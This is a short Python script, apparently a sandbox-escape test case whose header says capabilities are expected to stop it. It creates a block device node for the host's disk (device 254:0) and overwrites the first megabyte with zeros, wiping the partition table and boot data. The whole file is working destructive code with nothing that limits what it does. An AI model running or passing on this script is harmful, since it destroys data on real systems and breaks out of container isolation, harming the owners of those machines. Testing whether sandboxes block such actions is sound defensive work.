# overwrite the disk by a device node of one's own
# held by: caps
import os, stat
for path in ("/tmp/disk", "/root/disk", "disk"):
    try:
        os.mknod(path, 0o600 | stat.S_IFBLK, os.makedev(254, 0))
        break
    except OSError as refused:
        answer = refused
else:
    raise answer
with open(path, "r+b", buffering=0) as disk:
    disk.write(bytes(1 << 20))
